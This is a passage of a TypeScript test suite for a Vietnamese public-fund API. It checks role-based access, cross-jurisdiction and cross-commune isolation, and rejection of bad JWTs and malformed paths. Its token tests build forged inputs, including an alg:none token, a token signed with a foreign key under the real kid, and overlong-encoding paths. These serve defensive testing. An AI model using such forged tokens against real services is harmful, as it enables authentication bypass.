import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { generateKeyPair, importJWK, type JWK, SignJWT } from 'jose';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import XLSX from 'xlsx';
import { localDynamoClient } from '../../local/aws-local.ts';
import { CLOCK_SKEW_SECONDS, LOCAL_AUDIENCE, LOCAL_ISSUER } from '../../local/local-jwt.ts';
import { readRuntimeInfo } from '../../local/runtime.ts';
import { DocumentBody } from '../../shared/documents/http/schemas.ts';
import { createDocumentClient } from '../../shared/platform/aws/aws-clients.ts';
import { isPagedRoute } from '../../shared/platform/http/paged-route.ts';
import { MAX_AMOUNT_VND } from '../../shared/platform/money.ts';
import { ROLES } from '../../shared/platform/roles.ts';
import { ROUTES } from '../../shared/routes.ts';
import { DynamoTargetRepository } from '../../shared/targets/adapters/target-repository.ts';
import { steps } from '../e2e/support/api-steps.ts';
import { givenPayee } from '../e2e/support/contract-steps.ts';
import { type ApiResponse, type Runtime, startRuntime } from '../e2e/support/local-runtime.ts';
import { looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
import { type InvariantReport, scanTable } from './support/invariant-checker.ts';
import { rawRequest } from './support/raw-http.ts';
import { reliabilityRun } from './support/reliability-run.ts';

const raw = localDynamoClient(inject('dynamoEndpoint'));
let rt: Runtime;
let s: ReturnType<typeof steps>;
const run = reliabilityRun('access-and-hostile-input');
let allocationId: string;
let requestId: string;
/** A request waiting at the district level, touched by no case but the voucher one (the shared one may be cancelled). */
let districtRequestId: string;
let otherCommuneAllocationId: string;
/** An allocation of a jurisdiction's year that no approval policy covers: nothing can be submitted on it. */
let uncoveredAllocationId: string;
/** A contract on the A Tiêng allocation, with its payee, so the contract routes' paths resolve. */
let contractId: string;
let payeeId: string;
/** A measured plan indicator, so the targets routes' paths resolve. */
const indicatorId = '2024.poorHouseholds';

beforeAll(async () => {
  rt = await startRuntime();
  s = steps(rt);
  allocationId = (await s.createAllocation({ commune: 'A Tiêng', amountVnd: 900_000_000 })).id;
  otherCommuneAllocationId = (await s.createAllocation({ commune: 'A Nông', amountVnd: 900_000_000 })).id;
  const submitted = await s.submit(allocationId, 10_000_000, 'matrix-finance');
  expect(submitted.status).toBe(201);
  requestId = submitted.body.id;
  districtRequestId = (await s.submit(allocationId, 1_000_000, 'matrix-finance')).body.id;
  await s.approveAll(districtRequestId, 'district');
  payeeId = await givenPayee(rt, { kind: 'contractor', name: 'Công ty Xây dựng Tây Giang' });
  const contract = await rt.call('POST', '/contracts', {
    token: await s.as('matrix-finance', 'finance'),
    body: {
      allocationId,
      number: '01/2024/HĐXD',
      signedOn: '2024-03-01',
      payeeId,
      valueVnd: 500_000_000,
      kind: 'construction',
    },
  });
  expect(contract.status, JSON.stringify(contract.body)).toBe(201);
  contractId = contract.body.id;
  const indicator = await rt.call('PUT', `/targets/${indicatorId}`, {
    token: await s.as('matrix-planner-setup', 'planner'),
    body: {
      name: { vi: 'Giảm số hộ nghèo', en: 'Fewer poor households' },
      unit: { vi: 'hộ', en: 'households' },
      target: { min: 270, max: 330 },
      source: 'measurements',
    },
  });
  expect(indicator.status).toBe(201);
  run.figures.operations += 6;
});
afterAll(async () => {
  run.save();
  raw.destroy();
  await rt?.stop();
});

/** The steps of Đà Nẵng's staff: every token carries custom:jurisdiction da-nang. */
let daNang: ReturnType<typeof steps> | undefined;
const daNangSteps = () => {
  daNang ??= steps(rt, { jurisdiction: 'da-nang' });
  return daNang;
};

const call = async (method: string, path: string, opts: Parameters<Runtime['call']>[2] = {}) => {
  run.figures.operations += 1;
  return rt.call(method, path, opts);
};

const concretePath = (path: string) =>
  path
    .replace(/^\/allocations\/\{id\}/, `/allocations/${allocationId}`)
    .replace(/^\/requests\/\{id\}/, `/requests/${requestId}`)
    .replace(/^\/contracts\/\{id\}/, `/contracts/${contractId}`)
    .replace(/^\/targets\/\{id\}/, `/targets/${indicatorId}`)
    // The matrix's tokens carry no jurisdiction claim: they belong to the upgrade default, tay-giang.
    .replace(/^\/jurisdictions\/\{id\}/, '/jurisdictions/tay-giang')
    // A year no fixture plans: a close there finds no allocation of anyone's.
    .replace('{year}', '2031')
    .replace('/reports/{file}', '/reports/ket-qua-giai-ngan.xlsx')
    .replace('/imports/templates/{file}', '/imports/templates/allocations.xlsx')
    .replace('{docId}', randomUUID())
    .replace('{id}', randomUUID());

/** A valid registration of a document (a direct request takes a beneficiary list). */
const aDocumentBody = {
  type: 'beneficiary-list',
  fileName: 'danh-sach-ho.pdf',
  contentType: 'application/pdf',
  sizeBytes: 2048,
  sha256: 'a'.repeat(64),
};

const expectErrorBody = (res: ApiResponse) => {
  expect(typeof res.body?.error?.code).toBe('string');
  expect(typeof res.body?.error?.message).toBe('string');
};

describe('the access matrix: every route × every role', () => {
  const rows = ROUTES.flatMap((route) =>
    ROLES.map((role) => ({
      route,
      role,
      allowed: route.roles === 'public' || (route.roles as readonly string[]).includes(role),
    })),
  );
  run.figures.notes.accessMatrixCells = rows.length;
  it.each(
    rows.map((r) => [
      `${r.route.method} ${r.route.path}`,
      r.role,
      r.allowed ? 'lets in' : 'refuses with 403',
      r,
    ]),
  )('%s %s: the gateway %s', async (_route, _role, _what, { route, role, allowed }) => {
    // An empty body: an allowed caller gets past the role check and then fails validation (or succeeds).
    const res = await call(route.method, concretePath(route.path), {
      token: await s.as(`matrix-${role}`, role),
      headers: { 'idempotency-key': randomUUID() },
      ...(route.method === 'POST' || route.method === 'PUT' ? { body: {} } : {}),
    });
    if (allowed) {
      expect([401, 403]).not.toContain(res.status);
      expect(res.status).toBeLessThan(500);
    } else {
      expect(res.status).toBe(403);
      expectErrorBody(res);
    }
  });

  it.each(ROUTES.map((r) => [`${r.method} ${r.path}`, r]))(
    '%s without a token answers 401 unless the route is public',
    async (_name, route) => {
      const res = await call(
        route.method,
        concretePath(route.path),
        route.method === 'POST' || route.method === 'PUT' ? { body: {} } : {},
      );
      if (route.roles === 'public') {
        // Public routes ask for no token: they answer (the confirmation link without its token: 400).
        expect([401, 403]).not.toContain(res.status);
        expect(res.status).toBeLessThan(500);
        if (route.path === '/health') expect(res.status).toBe(200);
      } else {
        expect(res.status).toBe(401);
        expectErrorBody(res);
      }
    },
  );
});

describe('jurisdictions: every role reads its own and is refused another’s', () => {
  const jurisdictionRoutes = ROUTES.filter((r) => r.path.startsWith('/jurisdictions/{id}'));
  const cells = ROLES.flatMap((role) =>
    [
      { own: 'tay-giang', other: 'da-nang' },
      { own: 'da-nang', other: 'tay-giang' },
    ].map((j) => ({ role, ...j })),
  );
  run.figures.notes.crossJurisdictionCells = cells.length * jurisdictionRoutes.length;
  it.each(cells.map((c) => [c.role, c.own, c.other, c]))(
    '%s of %s: 200 on its own units, 403 on those of %s',
    async (_role, _own, _other, { role, own, other }) => {
      // tay-giang is the upgrade default: its tokens carry no claim, as accounts made before jurisdictions.
      const token = await rt.token(
        `j-${own}-${role}`,
        [role],
        own === 'tay-giang' ? {} : { jurisdiction: own },
      );
      for (const route of jurisdictionRoutes) {
        const mine = await call(route.method, route.path.replace('{id}', own), { token });
        const theirs = await call(route.method, route.path.replace('{id}', other), { token });
        expect(mine.status).toBe(200);
        expect(theirs.status).toBe(403);
        expectErrorBody(theirs);
      }
      const listed = await call('GET', '/jurisdictions', { token });
      expect(listed.body.items.map((j: { id: string }) => j.id)).toEqual([own]);
    },
  );
});

describe('tenancy: a user of one jurisdiction against another’s data, on every route', () => {
  /** One jurisdiction's data in this file: ids and commune names that must never reach the other. */
  interface Side {
    id: 'tay-giang' | 'da-nang';
    claim: { jurisdiction?: string };
    allocationId: string;
    requestId: string;
    contractId: string;
    /** The contract's payee (a contractor of its register). */
    contractorId: string;
    alertId?: string;
    /** Its measured plan indicator, `<fiscalYear>.<code>`. */
    indicatorId: string;
    /** A payee of its register, with its citizen ID. */
    payeeId: string;
    citizenId: string;
    markers: string[];
  }
  const sides = {} as Record<Side['id'], Side>;
  const before = new Map<string, unknown>();
  /** A side's allocation and request as its own auditor reads them. */
  const stateOf = async (side: Side) => {
    const token = await tokenOf(side, ['auditor'], 'check');
    const allocation = await call('GET', `/allocations/${side.allocationId}`, { token });
    const request = await call('GET', `/requests/${side.requestId}`, { token });
    const targets = await call('GET', `/targets?fiscalYear=${yearOfIndicator(side)}`, { token });
    const contract = await call('GET', `/contracts/${side.contractId}`, { token });
    expect([allocation.status, request.status, targets.status, contract.status]).toEqual([
      200, 200, 200, 200,
    ]);
    return {
      allocation: allocation.body,
      request: request.body,
      targets: targets.body,
      contract: contract.body,
    };
  };
  const yearOfIndicator = (side: Pick<Side, 'indicatorId'>) => side.indicatorId.split('.')[0];
  const tokenOf = (side: Side, groups: readonly string[], label: string) =>
    rt.token(`x-${side.id}-${label}`, [...groups], side.claim);
  // /jurisdictions/{id} has its own cells above; the OpenAPI document is the same for everyone.
  const routes = ROUTES.filter(
    (r) => r.roles !== 'public' && !r.path.startsWith('/jurisdictions') && r.path !== '/openapi.json',
  );

  beforeAll(async () => {
    const daNang = { jurisdiction: 'da-nang' };
    const planner = await rt.token('x-da-nang-setup-planner', ['planner'], daNang);
    const created = await call('POST', '/allocations', {
      token: planner,
      body: {
        fiscalYear: 2026,
        fundingLine: 'central',
        capitalType: 'investment',
        component: 'DA1',
        // A commune name nothing else in this file uses, so an answer that shows it to the other
        // jurisdiction is a leak.
        commune: 'Hùng Sơn',
        title: 'Đường liên xã',
        amountVnd: 700_000_000,
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.jurisdiction).toBe('da-nang');
    const submitted = await s.submitWith(
      await rt.token('x-da-nang-setup-finance', ['finance'], daNang),
      created.body.id,
      5_000_000,
    );
    expect(submitted.status, JSON.stringify(submitted.body)).toBe(201);
    expect(submitted.body.jurisdiction).toBe('da-nang');
    const daNangContractor = await givenPayee(
      rt,
      { kind: 'contractor', name: 'Công ty Sông Hàn' },
      'da-nang',
    );
    const daNangContract = await call('POST', '/contracts', {
      token: await rt.token('x-da-nang-setup-finance', ['finance'], daNang),
      body: {
        allocationId: created.body.id,
        number: 'HĐ-SONG-HAN-77',
        signedOn: '2026-03-01',
        payeeId: daNangContractor,
        valueVnd: 300_000_000,
        kind: 'construction',
      },
    });
    expect(daNangContract.status, JSON.stringify(daNangContract.body)).toBe(201);
    const run = await call('POST', '/monitor/runs', {
      token: planner,
      body: { fiscalYear: 2026, asOf: '2026-12-20' },
    });
    expect(run.status).toBeLessThan(300);
    // Đà Nẵng's own measured indicator, its name and its measurement's source markers of its data.
    const daNangIndicator = '2026.poorHouseholds';
    const indicator = await call('PUT', `/targets/${daNangIndicator}`, {
      token: planner,
      body: {
        name: { vi: 'Hộ nghèo thành phố', en: 'City poor households' },
        unit: { vi: 'hộ', en: 'households' },
        target: { min: 100 },
        source: 'measurements',
      },
    });
    expect(indicator.status, JSON.stringify(indicator.body)).toBe(201);
    // Its mid-2026 review is stored as the service stores one: the API refuses a date after the
    // runtime's today (01/10/2024, the Tây Giang world's), and this setup only needs the record there.
    const tableName = `${rt.namespace}-ledger`;
    const measurement = {
      id: randomUUID(),
      indicatorId: daNangIndicator,
      jurisdiction: 'da-nang',
      value: 123,
      date: '2026-06-30',
      source: 'Rà soát giữa năm thành phố',
      recordedBy: 'x-da-nang-setup-planner',
      recordedAt: '2026-07-01T02:00:00.000Z',
    };
    await new DynamoTargetRepository(createDocumentClient(raw), tableName).recordMeasurement(measurement, {
      jurisdiction: 'da-nang',
      scope: `record-measurement#x-da-nang-setup#${measurement.id}`,
      fingerprint: 'setup',
      result: {},
      createdAt: measurement.recordedAt,
    });
    const daNangPayee = await daNangSteps().registerPayee({ name: 'Hộ bà Trần Thị Biển' });
    expect(daNangPayee.status, JSON.stringify(daNangPayee.body)).toBe(201);
    const tayGiangPayee = await s.registerPayee({ name: 'Hộ ông Bhling Núi' });
    expect(tayGiangPayee.status, JSON.stringify(tayGiangPayee.body)).toBe(201);
    sides['da-nang'] = {
      id: 'da-nang',
      claim: daNang,
      allocationId: created.body.id,
      requestId: submitted.body.id,
      contractId: daNangContract.body.id,
      contractorId: daNangContractor,
      alertId: run.body.alerts?.[0]?.id,
      indicatorId: daNangIndicator,
      payeeId: daNangPayee.body.id,
      citizenId: daNangPayee.body.citizenId,
      markers: [
        created.body.id,
        submitted.body.id,
        daNangPayee.body.id,
        daNangPayee.body.citizenId,
        'Hộ bà Trần Thị Biển',
        'Hùng Sơn',
        'Hộ nghèo thành phố',
        'Rà soát giữa năm thành phố',
        daNangContract.body.id,
        'HĐ-SONG-HAN-77',
        'Công ty Sông Hàn',
      ],
    };
    const tgRun = await call('POST', '/monitor/runs', {
      token: await s.as('x-tay-giang-setup-planner', 'planner'),
      body: { fiscalYear: 2024, asOf: '2024-12-20' },
    });
    sides['tay-giang'] = {
      id: 'tay-giang',
      claim: {},
      allocationId,
      requestId,
      contractId,
      contractorId: payeeId,
      alertId: tgRun.body.alerts?.[0]?.id,
      indicatorId,
      payeeId: tayGiangPayee.body.id,
      citizenId: tayGiangPayee.body.citizenId,
      markers: [
        allocationId,
        requestId,
        otherCommuneAllocationId,
        tayGiangPayee.body.id,
        tayGiangPayee.body.citizenId,
        'Hộ ông Bhling Núi',
        'A Tiêng',
        'A Nông',
        'Giảm số hộ nghèo',
        contractId,
        '01/2024/HĐXD',
      ],
    };
    expect(sides['da-nang'].alertId).toBeDefined();
    expect(sides['tay-giang'].alertId).toBeDefined();
    for (const side of Object.values(sides)) before.set(side.id, await stateOf(side));
  });

  /** The path and body of a route aimed at the other side's resources. */
  const aimedAt = (route: (typeof ROUTES)[number], other: Side) => {
    const path = route.path
      .replace(/^\/allocations\/\{id\}/, `/allocations/${other.allocationId}`)
      .replace(/^\/requests\/\{id\}/, `/requests/${other.requestId}`)
      .replace(/^\/alerts\/\{id\}/, `/alerts/${other.alertId}`)
      .replace(/^\/contracts\/\{id\}/, `/contracts/${other.contractId}`)
      // Listing their allocation's contracts finds none of them: the list is the caller's jurisdiction's.
      .replace(/^\/contracts$/, `/contracts?allocationId=${other.allocationId}`)
      // The other side's indicator id: the caller's own jurisdiction has none of that id (yet).
      .replace(/^\/targets\/\{id\}/, `/targets/${other.indicatorId}`)
      .replace(/^\/targets$/, `/targets?fiscalYear=${yearOfIndicator(other)}`)
      .replace(/^\/payees\/\{id\}/, `/payees/${other.payeeId}`)
      // Searching for their payee's citizen ID finds nothing of theirs.
      .replace(/^\/payees$/, `/payees?q=${other.citizenId}`)
      // Suggestions read the caller's own jurisdiction's year: none of their allocations is in them.
      .replace(/^\/reallocations\/suggestions$/, '/reallocations/suggestions?fiscalYear=2024')
      // Closing the caller's own 2026 carrying their allocation over: invalid_carry_over, nothing of theirs.
      .replace('{year}', '2026')
      // The report of the caller's own jurisdiction's 2024, as a PDF (its text is read for their markers below).
      .replace('{file}', 'ket-qua-giai-ngan.pdf')
      .replace('{docId}', randomUUID())
      .replace('{id}', randomUUID());
    const bodies: Record<string, unknown> = {
      'POST /allocations': {
        fiscalYear: 2026,
        fundingLine: 'central',
        capitalType: 'investment',
        component: 'DA1',
        commune: 'Hùng Sơn',
        title: 'Ghi vào nơi khác',
        amountVnd: 1_000_000,
        jurisdiction: other.id,
      },
      'POST /allocations/{id}/adjustments': { deltaVnd: 1_000_000, reason: 'Thử ghi vào nơi khác' },
      // An extension of their allocation's deadline: not found in the caller's jurisdiction.
      'POST /allocations/{id}/extension': {
        decisionNumber: '1/QĐ',
        decidedOn: '2026-01-20',
        deadline: '2027-12-31',
      },
      'POST /requests': {
        allocationId: other.allocationId,
        amountVnd: 1_000_000,
        payee: { name: 'Công ty X', kind: 'contractor' },
        purpose: 'Thử ghi vào nơi khác',
      },
      'POST /requests/{id}/decisions': { decision: 'approve' },
      // A contract on their allocation with their payee; an amendment of their contract.
      'POST /contracts': {
        allocationId: other.allocationId,
        number: 'Thử ghi vào nơi khác',
        signedOn: '2026-03-01',
        payeeId: other.contractorId,
        valueVnd: 1_000_000,
        kind: 'goods',
      },
      'POST /contracts/{id}/amendments': {
        decisionNumber: '1/QĐ',
        reason: 'Thử ghi vào nơi khác',
        deltaVnd: 1,
      },
      'POST /requests/{id}/cancel': {},
      'POST /fiscal-years/{year}/close': {
        decisionNumber: '1/QĐ',
        decidedOn: '2027-02-10',
        carryOver: [{ allocationId: other.allocationId }],
      },
      'POST /requests/{id}/documents': aDocumentBody,
      // A reallocation from their allocation: not found in the caller's jurisdiction, nothing moves.
      'POST /reallocations': {
        decisionNumber: '1/QĐ',
        decidedOn: '2026-05-04',
        reason: 'Thử ghi vào nơi khác',
        moves: [{ fromAllocationId: other.allocationId, toAllocationId: randomUUID(), amountVnd: 1 }],
      },
      'POST /monitor/runs': {},
      'POST /subscriptions': { email: 'kiem.tra@gov.vn', scope: {} },
      'POST /targets/{id}/measurements': {
        value: 1,
        date: `${yearOfIndicator(other)}-06-30`,
        source: 'Thử ghi vào nơi khác',
      },
      // Defines the caller's own indicator of that id: the other's must stay as it was.
      // Registers, in the caller's own jurisdiction and commune, a payee with their payee's citizen ID:
      // accepted (each register is its own), never a duplicate_payee naming theirs.
      'POST /payees': {
        kind: 'household',
        name: 'Hộ trùng số định danh',
        citizenId: other.citizenId,
        bankAccount: { number: '1234567890', bankCode: '970405' },
        commune: other.id === 'da-nang' ? 'A Tiêng' : 'Hùng Sơn',
      },
      'PUT /targets/{id}': {
        name: { vi: 'Thử ghi vào nơi khác', en: 'Writing elsewhere' },
        unit: { vi: 'hộ', en: 'households' },
        target: { min: 1 },
        source: 'measurements',
      },
    };
    return { path, body: bodies[`${route.method} ${route.path}`] };
  };
  /** Whether the route names one of the other side's resources (in its path, or as what it writes). */
  const namesTheirs = (route: (typeof ROUTES)[number]) =>
    /^\/(allocations|requests|alerts|payees|contracts)\/\{id\}/.test(route.path) ||
    [
      'POST /allocations',
      'POST /requests',
      'POST /targets/{id}/measurements',
      'POST /contracts',
      'POST /reallocations',
    ].includes(`${route.method} ${route.path}`);

  const cells = (['da-nang', 'tay-giang'] as const).flatMap((own) =>
    routes.map((route) => ({
      own,
      other: own === 'da-nang' ? ('tay-giang' as const) : ('da-nang' as const),
      route,
    })),
  );
  run.figures.notes.crossJurisdictionRouteCells = cells.length;
  it.each(cells.map((c) => [c.own, `${c.route.method} ${c.route.path}`, c.other, c]))(
    'a user of %s on %s against %s’s data: refused (403/404) or answered with none of it',
    async (_own, _route, _other, { own, other, route }) => {
      const them = sides[other];
      const token = await tokenOf(sides[own], route.roles as readonly string[], 'all');
      const { path, body } = aimedAt(route, them);
      const res = await call(route.method, path, {
        token,
        headers: { 'idempotency-key': randomUUID() },
        ...(body !== undefined || route.method === 'POST' ? { body: body ?? {} } : {}),
      });
      expect(res.status).toBeLessThan(500);
      if (namesTheirs(route)) {
        expect([403, 404]).toContain(res.status);
        expectErrorBody(res);
      }
      const text = typeof res.body === 'string' ? res.body : JSON.stringify(res.body ?? '');
      // The caller's own words may come back (a 404 names the id it was asked for); nothing else of theirs.
      const asked = `${path} ${JSON.stringify(body ?? {})}`;
      for (const marker of them.markers.filter((m) => !asked.includes(m))) expect(text).not.toContain(marker);
    },
  );

  it('gives each side report files (XLSX cells, PDF text) with its own places and none of the other’s data', async () => {
    for (const own of ['da-nang', 'tay-giang'] as const) {
      const other = sides[own === 'da-nang' ? 'tay-giang' : 'da-nang'];
      const token = await tokenOf(sides[own], ['inspector'], 'report');
      for (const file of ['ket-qua-giai-ngan.xlsx', 'ket-qua-giai-ngan.pdf']) {
        const res = await fetch(`${rt.url}/reports/${file}?fiscalYear=${yearOfIndicator(sides[own])}`, {
          headers: { authorization: `Bearer ${token}` },
        });
        run.figures.operations += 1;
        expect(res.status, `${own} ${file}`).toBe(200);
        const bytes = Buffer.from(await res.arrayBuffer());
        const book = file.endsWith('.xlsx') ? XLSX.read(bytes, { type: 'buffer' }) : undefined;
        const text = book
          ? book.SheetNames.map((n) => XLSX.utils.sheet_to_csv(book.Sheets[n] as XLSX.WorkSheet)).join('\n')
          : (await extractText(await getDocumentProxy(new Uint8Array(bytes)), { mergePages: true })).text;
        expect(text).toContain(own === 'da-nang' ? 'Hùng Sơn' : 'A Tiêng');
        for (const marker of other.markers) expect(text, `${own} ${file}`).not.toContain(marker);
      }
    }
  });

  it('leaves each side’s allocation and request exactly as they were', async () => {
    for (const side of Object.values(sides)) expect(await stateOf(side)).toEqual(before.get(side.id));
  });
});

describe('commune-scoped users and another commune’s data', () => {
  const scoped = (role: string) => rt.token(`scoped-${role}`, [role], { commune: 'A Nông' });

  it('refuses a commune-scoped user reading another commune’s allocation and request', async () => {
    const token = await scoped('auditor');
    expect((await call('GET', `/allocations/${allocationId}`, { token })).status).toBe(403);
    expect((await call('GET', `/requests/${requestId}`, { token })).status).toBe(403);
    expect((await call('GET', '/allocations?commune=A%20Ti%C3%AAng', { token })).status).toBe(403);
    expect((await call('GET', `/allocations/${otherCommuneAllocationId}`, { token })).status).toBe(200);
  });

  it('lists only the own commune’s allocations to a commune-scoped user and all of them to a district-wide one', async () => {
    const mine = await call('GET', '/allocations', { token: await scoped('auditor') });
    expect(mine.status).toBe(200);
    expect(mine.body.items.map((a: { commune: string }) => a.commune)).toEqual(['A Nông']);
    const all = await call('GET', '/allocations', { token: await s.as('district-auditor', 'auditor') });
    expect(all.body.items.map((a: { commune: string }) => a.commune).sort()).toEqual(['A Nông', 'A Tiêng']);
  });

  it('refuses a commune-scoped user writing into another commune and lets them write into their own', async () => {
    const before = await run.check(rt);
    const submit = (id: string) =>
      scoped('finance').then((token) =>
        call('POST', '/requests', {
          token,
          headers: { 'idempotency-key': randomUUID() },
          body: {
            allocationId: id,
            amountVnd: 1_000_000,
            payee: { name: 'Hộ A', kind: 'household' },
            purpose: 'Sinh kế',
          },
        }),
      );
    const foreign = await submit(allocationId);
    expect(foreign.status).toBe(403);
    expectErrorBody(foreign);
    const plan = await call('POST', '/allocations', {
      token: await scoped('planner'),
      body: {
        fiscalYear: 2024,
        fundingLine: 'local',
        capitalType: 'investment',
        component: 'DA1',
        commune: 'A Tiêng',
        title: 'Không phải xã của tôi',
        amountVnd: 1_000_000,
      },
    });
    expect(plan.status).toBe(403);
    const decision = await call('POST', `/requests/${requestId}/decisions`, {
      token: await scoped('approver-district'),
      headers: { 'idempotency-key': randomUUID() },
      body: { decision: 'approve' },
    });
    expect(decision.status).toBe(403);
    const after = await run.check(rt);
    expect(after.counts).toEqual(before.counts);
    expect((await submit(otherCommuneAllocationId)).status).toBe(201);
  });
});

describe('commune-scoped users and the monitor run and audit log', () => {
  const scoped = (role: string) => rt.token(`scoped-${role}`, [role], { commune: 'A Nông' });

  it("answers a commune-scoped planner's monitor run with their commune's rows and alerts only", async () => {
    const res = await call('POST', '/monitor/runs', {
      token: await scoped('planner'),
      body: { asOf: '2024-09-30', fiscalYear: 2024 },
    });
    expect(res.status).toBe(202);
    expect(res.body.rows.length).toBeGreaterThan(0);
    const communes = [...res.body.rows, ...res.body.alerts].map(
      (x: { scope: { commune?: string } }) => x.scope.commune,
    );
    expect(new Set(communes)).toEqual(new Set(['A Nông']));
  });

  it('shows a commune-scoped auditor only the audit-log entries about their commune', async () => {
    await call('GET', '/allocations', { token: await s.as('district-auditor', 'auditor') });
    await call('GET', '/allocations', { token: await scoped('auditor') });
    const log = await call('GET', '/audit-log?limit=500', { token: await scoped('auditor') });
    expect(log.status).toBe(200);
    expect(log.body.items.length).toBeGreaterThan(0);
    expect(log.body.items.every((e: { commune?: string }) => e.commune === 'A Nông')).toBe(true);
  });
});

describe('tokens that must not get in', () => {
  const route = '/allocations';
  const localKey = async () => {
    const jwk = JSON.parse(readFileSync(join(rt.dataDir, 'keys', 'jwt-signing-key.json'), 'utf8')) as JWK;
    return { key: await importJWK(jwk, 'RS256'), kid: jwk.kid ?? 'local' };
  };
  const signed = async (claims: Record<string, unknown>, edit: (jwt: SignJWT) => SignJWT = (j) => j) => {
    const { key, kid } = await localKey();
    const now = Math.floor(Date.now() / 1000);
    return edit(
      new SignJWT({ token_use: 'id', ...claims })
        .setProtectedHeader({ alg: 'RS256', kid, typ: 'JWT' })
        .setSubject('token-tester')
        .setIssuer(LOCAL_ISSUER)
        .setAudience(LOCAL_AUDIENCE)
        .setIssuedAt()
        .setNotBefore(now - 5)
        .setExpirationTime(now + 600),
    ).sign(key);
  };

  it('answers 401 to an expired token', async () => {
    const token = await signed({ 'cognito:groups': ['auditor'] }, (j) =>
      j.setExpirationTime(Math.floor(Date.now() / 1000) - 120),
    );
    expect((await call('GET', route, { token })).status).toBe(401);
  });
  it('answers 401 to a token not valid yet', async () => {
    const token = await signed({ 'cognito:groups': ['auditor'] }, (j) =>
      j.setNotBefore(Math.floor(Date.now() / 1000) + 3600),
    );
    expect((await call('GET', route, { token })).status).toBe(401);
  });
  it('answers 401 to a token signed with another key under the same kid', async () => {
    const { privateKey } = await generateKeyPair('RS256');
    const { kid } = await localKey();
    const now = Math.floor(Date.now() / 1000);
    const token = await new SignJWT({ 'cognito:groups': ['planner'], token_use: 'id' })
      .setProtectedHeader({ alg: 'RS256', kid })
      .setSubject('forger')
      .setIssuer(LOCAL_ISSUER)
      .setAudience(LOCAL_AUDIENCE)
      .setExpirationTime(now + 600)
      .sign(privateKey);
    expect((await call('GET', route, { token })).status).toBe(401);
  });
  it('answers 401 to an alg:none token carrying valid-looking claims', async () => {
    const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');
    const now = Math.floor(Date.now() / 1000);
    const token = `${b64({ alg: 'none', typ: 'JWT' })}.${b64({
      sub: 'nobody',
      'cognito:groups': ['planner'],
      iss: LOCAL_ISSUER,
      aud: LOCAL_AUDIENCE,
      exp: now + 600,
      token_use: 'id',
    })}.`;
    expect((await call('GET', route, { token })).status).toBe(401);
  });
  it('answers 401 to a token without exp, which would never expire', async () => {
    const { key, kid } = await localKey();
    const token = await new SignJWT({ 'cognito:groups': ['auditor'], token_use: 'id' })
      .setProtectedHeader({ alg: 'RS256', kid, typ: 'JWT' })
      .setSubject('token-tester')
      .setIssuer(LOCAL_ISSUER)
      .setAudience(LOCAL_AUDIENCE)
      .setIssuedAt()
      .sign(key);
    expect((await call('GET', route, { token })).status).toBe(401);
  });
  it(`answers 401 to a token issued (iat) or valid from (nbf) further ahead than the ${CLOCK_SKEW_SECONDS} s clock skew`, async () => {
    const ahead = Math.floor(Date.now() / 1000) + CLOCK_SKEW_SECONDS + 30;
    for (const edit of [(j: SignJWT) => j.setIssuedAt(ahead), (j: SignJWT) => j.setNotBefore(ahead)]) {
      const token = await signed({ 'cognito:groups': ['auditor'] }, edit);
      const res = await call('GET', route, { token });
      expect(res.status).toBe(401);
      expectErrorBody(res);
    }
  });
  it('lets in a token whose iat and nbf are ahead by less than the clock skew', async () => {
    const ahead = Math.floor(Date.now() / 1000) + CLOCK_SKEW_SECONDS / 2;
    const token = await signed({ 'cognito:groups': ['auditor'] }, (j) =>
      j.setIssuedAt(ahead).setNotBefore(ahead),
    );
    expect((await call('GET', route, { token })).status).toBe(200);
  });
  it('reads groups given as an array and as the bracketed string form alike', async () => {
    for (const groups of [['finance', 'auditor'], '[finance auditor]']) {
      const token = await signed({ 'cognito:groups': groups });
      expect((await call('GET', '/audit-log', { token })).status).toBe(200);
      expect((await call('POST', '/allocations', { token, body: {} })).status).toBe(403);
    }
  });
});

describe('paths whose percent-encoding does not decode', () => {
  it.each([
    ['GET', '/requests/%E0%A4%A'],
    ['GET', '/allocations/%zz'],
    ['GET', '/requests/%'],
    ['POST', '/allocations/%C0%AF/adjustments'],
    ['GET', '/ledger/%FF'],
    ['GET', '/%E0%A4%A'],
  ])(
    'answers %s %s with 400 invalid_path before any function runs, signed in or not',
    async (method, path) => {
      for (const token of [undefined, await s.as('path-planner', 'planner')]) {
        const res = await call(method, path, {
          ...(token ? { token } : {}),
          ...(method === 'POST' ? { body: {} } : {}),
        });
        expect(res.status).toBe(400);
        expect(res.body.error.code).toBe('invalid_path');
        expect(res.body.error.message).toMatch(/percent-encod/);
      }
    },
  );

  it('still routes a well-encoded path: an encoded id that exists nowhere is 404, not 400', async () => {
    const res = await call('GET', `/requests/${encodeURIComponent('không-có')}`, {
      token: await s.as('path-planner', 'planner'),
    });
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.body.error.code).not.toBe('invalid_path');
  });
});

/** A cursor's position changed by a little: one key value of a DynamoDB key, else the text itself. */
const movedPosition = (position: string): string => {
  try {
    const key = JSON.parse(Buffer.from(position, 'base64url').toString('utf8')) as Record<string, string>;
    const [name = 'pk'] = Object.keys(key);
    return Buffer.from(JSON.stringify({ ...key, [name]: `${key[name]}~` })).toString('base64url');
  } catch {
    return `${position}1`;
  }
};

describe('page cursors: one signed mechanism on every paged route', () => {
  const paged = ROUTES.filter(isPagedRoute);
  /** Per paged route: a query with at least two pages at limit=1, and the same query with another filter. */
  const queries: Record<string, { path: string; other: string }> = {
    'GET /requests': { path: '/requests?limit=1', other: '/requests?limit=1&status=pending_approval' },
    'GET /alerts': {
      path: '/alerts?fiscalYear=2024&limit=1',
      other: '/alerts?fiscalYear=2024&limit=1&status=open',
    },
    'GET /ledger/entries': {
      path: '/ledger/entries?fiscalYear=2024&limit=1',
      other: `/ledger/entries?fiscalYear=2024&limit=1&commune=${encodeURIComponent('A Tiêng')}`,
    },
    'GET /audit-log': { path: '/audit-log?limit=1', other: '/audit-log?limit=1' },
    'GET /payees': { path: '/payees?limit=1', other: '/payees?limit=1&q=ho' },
    // Its allocation is made in beforeAll; a page has no other filter (a period is refused with a page).
